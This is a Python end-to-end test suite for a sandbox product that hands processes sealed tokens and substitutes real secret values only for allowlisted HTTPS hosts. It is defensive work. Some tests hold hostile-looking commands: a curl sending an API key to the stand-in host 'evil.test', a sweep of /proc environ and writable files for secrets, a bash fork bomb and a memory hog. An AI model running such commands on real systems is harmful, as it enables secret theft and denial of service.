#!/usr/bin/env python3
"""The product end to end, against the real binaries started by harness.py:
a project with secrets, a sandbox that only ever holds sealed tokens, its
HTTPS calls (explicit proxy and transparent path) reaching a real TLS
upstream with the real value, live secret refresh, network and resource
limits, and a clean teardown. Run as root (the harness skips otherwise).

Every test that handles a secret checks that the real value never shows up
in what the sandbox sees, in the API's responses, or in the server's logs.
"""
import json
import os
import re
import subprocess
import sys
import unittest
import uuid

from e2e_env import api_client, assert_logs_hold_none, load_env, record_finder

TOKEN_RE = re.compile(r"osb_sealed_[0-9a-f]{32}")


def read(path):
    with open(path) as f:
        return f.read()


ENV = load_env("system")
E2E_DIR = ENV["OSB_E2E_DIR"]
UPSTREAM_ADDR = ENV["OSB_E2E_UPSTREAM_ADDR"]


api = api_client(ENV)
records_with = record_finder(ENV)


class System(unittest.TestCase):
    secrets = {}

    @classmethod
    def setUpClass(cls):
        suffix = uuid.uuid4().hex[:8]
        cls.values = {
            "API_KEY": "sk-live-" + uuid.uuid4().hex,          # no allowedHosts: the allowlist's hosts
            "PINNED_TOKEN": "pinned-" + uuid.uuid4().hex,      # api.test only
        }
        cls.project = "e2e-" + suffix
        api("POST", "/api/projects", {"name": cls.project, "egressAllowlist": ["api.test", "other.test"]}, 201)
        api("PUT", f"/api/projects/{cls.project}/secrets/API_KEY", {"value": cls.values["API_KEY"]}, 200)
        api("PUT", f"/api/projects/{cls.project}/secrets/PINNED_TOKEN",
            {"value": cls.values["PINNED_TOKEN"], "allowedHosts": ["api.test"]}, 200)
        _, sb, text = api("POST", "/api/sandboxes", {"project": cls.project, "envs": {"MODE": "e2e"}}, 201)
        cls.assert_no_values(text)
        cls.sandbox = sb["sandboxID"]

    @classmethod
    def tearDownClass(cls):
        api("DELETE", f"/api/sandboxes/{cls.sandbox}")
        api("DELETE", f"/api/projects/{cls.project}")
        assert_logs_hold_none(ENV, cls.values)

    @classmethod
    def assert_no_values(cls, text):
        for name, value in cls.values.items():
            if value in text:
                raise AssertionError(f"the real value of {name} leaked")

    def run_in(self, script, expect_exit=0, timeout=60):
        _, out, text = api("POST", f"/api/sandboxes/{self.sandbox}/exec/run",
                           {"cmd": "sh", "args": ["-c", script], "timeout": timeout}, 200)
        self.assert_no_values(text)
        if expect_exit is not None:
            self.assertEqual(out["exitCode"], expect_exit, f"{script}\nstdout={out['stdout']}\nstderr={out['stderr']}")
        return out

    def tokens(self):
        out = self.run_in("env")
        env = dict(line.split("=", 1) for line in out["stdout"].splitlines() if "=" in line)
        return env

    def test_01_environment_holds_only_tokens(self):
        env = self.tokens()
        self.assertRegex(env["API_KEY"], TOKEN_RE)
        self.assertRegex(env["PINNED_TOKEN"], TOKEN_RE)
        self.assertNotEqual(env["API_KEY"], env["PINNED_TOKEN"])
        self.assertEqual(env["MODE"], "e2e")
        self.assertIn("SSL_CERT_FILE", env)
        self.assertTrue(env["HTTPS_PROXY"].startswith("http://"))
        # Every process's environment and every readable file under the
        # writable and runtime dirs: no real value anywhere.
        self.run_in("cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; "
                    "find /home /tmp /run /var/tmp /dev/shm -type f -readable -size -4M "
                    "-exec cat {} + 2>/dev/null; true")

    def test_02_explicit_proxy_swaps_token_for_value(self):
        nonce = uuid.uuid4().hex
        out = self.run_in(f'curl -sS --fail "https://api.test/echo?nonce={nonce}&k=$API_KEY" '
                          f'-H "Authorization: Bearer $API_KEY" -d "{{\\"key\\": \\"$API_KEY\\"}}"')
        token = self.tokens()["API_KEY"]
        self.assertIn(token, out["stdout"])  # the echo came back scrubbed
        recs = records_with(nonce)
        self.assertEqual(len(recs), 1)
        rec = recs[0]
        self.assertNotIn(token, json.dumps(rec))
        value = self.values["API_KEY"]
        self.assertIn(value, rec["target"])
        self.assertIn(["Authorization", "Bearer " + value], rec["headers"])
        self.assertEqual(rec["body"], '{"key": "%s"}' % value)

    def test_03_transparent_path_without_proxy_env(self):
        nonce = uuid.uuid4().hex
        out = self.run_in('unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy; '
                          f'curl -sS --fail "https://api.test/echo?nonce={nonce}" -H "X-Key: $API_KEY"')
        self.assertIn(self.tokens()["API_KEY"], out["stdout"])
        rec = json.dumps(records_with(nonce))
        self.assertIn(self.values["API_KEY"], rec)

    def test_04_host_restricted_secret_stays_sealed_elsewhere(self):
        nonce = uuid.uuid4().hex
        self.run_in(f'curl -sS --fail "https://other.test/echo?nonce={nonce}" '
                    '-H "X-Pinned: $PINNED_TOKEN" -H "X-Key: $API_KEY"')
        rec = json.dumps(records_with(nonce))
        self.assertIn(self.tokens()["PINNED_TOKEN"], rec)
        self.assertNotIn(self.values["PINNED_TOKEN"], rec)
        self.assertIn(self.values["API_KEY"], rec)

    def test_05_names_outside_the_allowlist_do_not_resolve(self):
        out = self.run_in("getent hosts evil.test; echo rc=$?", expect_exit=0)
        self.assertIn("rc=2", out["stdout"])
        self.run_in("curl -sS https://evil.test/ -H \"X: $API_KEY\"", expect_exit=None)
        self.assertEqual(records_with("evil.test"), [])

    def test_06_only_redirected_ports_leave_the_sandbox(self):
        # A direct connection to the upstream's address on a port that is not
        # 443/80 is dropped on the host side.
        for url in (f"http://{UPSTREAM_ADDR}:8443/", f"https://{UPSTREAM_ADDR}:8443/", "http://10.201.0.1:22/"):
            out = self.run_in(f"curl -sS --noproxy '*' --connect-timeout 3 -k {url} ; echo rc=$?")
            self.assertRegex(out["stdout"], r"rc=(7|28)\b", url)  # refused or dropped, never connected

    def test_07_plaintext_http_never_carries_the_value(self):
        nonce = uuid.uuid4().hex
        self.run_in(f'curl -sS "http://api.test/echo?nonce={nonce}" -H "X-Key: $API_KEY"', expect_exit=None)
        self.assertNotIn(self.values["API_KEY"], json.dumps(records_with(nonce)))

    def test_08_live_update_reaches_the_same_sandbox(self):
        before = self.tokens()["API_KEY"]
        new_value = "sk-rotated-" + uuid.uuid4().hex
        self.values["API_KEY_NEW"] = new_value
        api("PUT", f"/api/projects/{self.project}/secrets/API_KEY", {"value": new_value}, 200)
        nonce = uuid.uuid4().hex
        out = self.run_in(f'curl -sS --fail "https://api.test/echo?nonce={nonce}" -H "X-Key: $API_KEY"')
        self.assertEqual(self.tokens()["API_KEY"], before)  # same token
        rec = json.dumps(records_with(nonce))
        self.assertIn(new_value, rec)
        self.assertNotIn(new_value, out["stdout"])

    def test_08b_delete_then_set_again_and_host_changes_apply_live(self):
        token = self.tokens()["PINNED_TOKEN"]
        api("DELETE", f"/api/projects/{self.project}/secrets/PINNED_TOKEN", None, 204)
        nonce = uuid.uuid4().hex
        self.run_in(f'curl -sS --fail "https://api.test/echo?nonce={nonce}" -H "X-Pinned: $PINNED_TOKEN"')
        rec = json.dumps(records_with(nonce))
        self.assertIn(token, rec)  # removed: the token stays sealed
        self.assertNotIn(self.values["PINNED_TOKEN"], rec)
        # Set again, now allowed for other.test only.
        again = "pinned-again-" + uuid.uuid4().hex
        self.values["PINNED_AGAIN"] = again
        api("PUT", f"/api/projects/{self.project}/secrets/PINNED_TOKEN",
            {"value": again, "allowedHosts": ["other.test"]}, 200)
        n1, n2 = uuid.uuid4().hex, uuid.uuid4().hex
        self.run_in(f'curl -sS --fail "https://other.test/echo?nonce={n1}" -H "X-Pinned: $PINNED_TOKEN"')
        self.run_in(f'curl -sS --fail "https://api.test/echo?nonce={n2}" -H "X-Pinned: $PINNED_TOKEN"')
        self.assertIn(again, json.dumps(records_with(n1)))
        self.assertNotIn(again, json.dumps(records_with(n2)))
        self.assertIn(token, json.dumps(records_with(n2)))
        self.assertEqual(self.tokens()["PINNED_TOKEN"], token)

    def test_09_memory_and_pids_limits_contain_the_sandbox(self):
        bomb = self.run_in("bash -c ':(){ :|:& };:' ; echo survived", expect_exit=None, timeout=10)
        self.assertIsNotNone(bomb["exitCode"])
        hog = self.run_in("python3 -c 'a=[]\nwhile True: a.append(bytearray(50*1024*1024))'",
                          expect_exit=None, timeout=60)
        self.assertNotEqual(hog["exitCode"], 0)
        # The sandbox (and the worker) are still fine.
        self.assertEqual(self.run_in("echo alive")["stdout"].strip(), "alive")

    def test_10_api_never_returns_values(self):
        _, _, text = api("GET", f"/api/projects/{self.project}/secrets", None, 200)
        self.assert_no_values(text)
        _, _, text = api("GET", f"/api/sandboxes/{self.sandbox}", None, 200)
        self.assert_no_values(text)


class GroupsLive(unittest.TestCase):
    def test_detaching_and_reattaching_a_group_applies_to_running_sandboxes(self):
        """Detaching an org group from a project must stop its values from
        being substituted for the project's running sandboxes (the token
        stays sealed); attaching it again brings the value back."""
        suffix = uuid.uuid4().hex[:6]
        group, project = "e2e-grp-" + suffix, "e2e-gp-" + suffix
        value = "grp-" + uuid.uuid4().hex
        api("POST", "/api/secret-groups", {"name": group}, 201)
        api("PUT", f"/api/secret-groups/{group}/secrets/GROUP_KEY", {"value": value}, 200)
        api("POST", "/api/projects", {"name": project, "egressAllowlist": ["api.test"], "secretGroups": [group]}, 201)
        _, sb, text = api("POST", "/api/sandboxes", {"project": project}, 201)
        self.assertNotIn(value, text)
        sid = sb["sandboxID"]
        try:
            def call():
                nonce = uuid.uuid4().hex
                _, out, text = api("POST", f"/api/sandboxes/{sid}/exec/run",
                                   {"cmd": "sh", "args": ["-c",
                                    f'curl -sS --fail "https://api.test/echo?nonce={nonce}" -H "X-G: $GROUP_KEY"'
                                    ]}, 200)
                self.assertEqual(out["exitCode"], 0, out["stderr"])
                self.assertNotIn(value, text)
                return json.dumps(records_with(nonce))

            token = None
            _, out, _ = api("POST", f"/api/sandboxes/{sid}/exec/run", {"cmd": "sh", "args": ["-c", "echo $GROUP_KEY"]},
                            200)
            token = out["stdout"].strip()
            self.assertRegex(token, TOKEN_RE)
            self.assertIn(value, call())
            api("PATCH", f"/api/projects/{project}", {"secretGroups": []}, 200)
            rec = call()
            self.assertNotIn(value, rec)
            self.assertIn(token, rec)
            api("PATCH", f"/api/projects/{project}", {"secretGroups": [group]}, 200)
            self.assertIn(value, call())
        finally:
            api("DELETE", f"/api/sandboxes/{sid}")
            api("DELETE", f"/api/projects/{project}")
            api("DELETE", f"/api/secret-groups/{group}")
        with open(os.path.join(E2E_DIR, "osb-dev.log")) as f:
            self.assertNotIn(value, f.read())


class Teardown(unittest.TestCase):
    def test_deleting_a_project_ends_its_sandboxes(self):
        project = "e2e-pdel-" + uuid.uuid4().hex[:6]
        api("POST", "/api/projects", {"name": project}, 201)
        _, put, _ = api("PUT", f"/api/projects/{project}/secrets/K", {"value": "v-" + uuid.uuid4().hex}, 200)
        # No allowedHosts and an empty allowlist: the secret goes nowhere, and PUT says so.
        self.assertIn("not be sent to any host", " ".join(put.get("warnings", [])))
        _, sb, _ = api("POST", "/api/sandboxes", {"project": project}, 201)
        sid = sb["sandboxID"]
        api("DELETE", f"/api/projects/{project}", None, 204)
        api("GET", f"/api/sandboxes/{sid}", None, 404)
        self.assertNotIn(sid, subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout)

    def test_delete_leaves_nothing_behind(self):
        project = "e2e-del-" + uuid.uuid4().hex[:6]
        api("POST", "/api/projects", {"name": project}, 201)
        api("PUT", f"/api/projects/{project}/secrets/K", {"value": "v-" + uuid.uuid4().hex}, 200)
        _, sb, _ = api("POST", "/api/sandboxes", {"project": project}, 201)
        sid = sb["sandboxID"]
        self.assertIn(sid, subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout)
        api("DELETE", f"/api/sandboxes/{sid}", None, 204)
        api("GET", f"/api/sandboxes/{sid}", None, 404)
        self.assertEqual(api("POST", f"/api/sandboxes/{sid}/exec/run", {"cmd": "true"})[0], 404)
        self.assertEqual(api("DELETE", f"/api/sandboxes/{sid}")[0], 404)
        checks = {
            "netns": subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout,
            "nft": subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout,
            "mounts": read("/proc/mounts"),
            "links": subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout,
        }
        for what, text in checks.items():
            self.assertNotIn(sid, text, what)
        for root, dirs, _ in os.walk("/sys/fs/cgroup"):
            self.assertFalse(any(sid in d for d in dirs), root)
            dirs[:] = []  # only the top level of each hierarchy
        for ctl in os.listdir("/sys/fs/cgroup"):
            path = os.path.join("/sys/fs/cgroup", ctl)
            if os.path.isdir(path):
                self.assertFalse(any(sid in d for d in os.listdir(path)), path)
        api("DELETE", f"/api/projects/{project}", None, 204)


if __name__ == "__main__":
    unittest.main(verbosity=2)
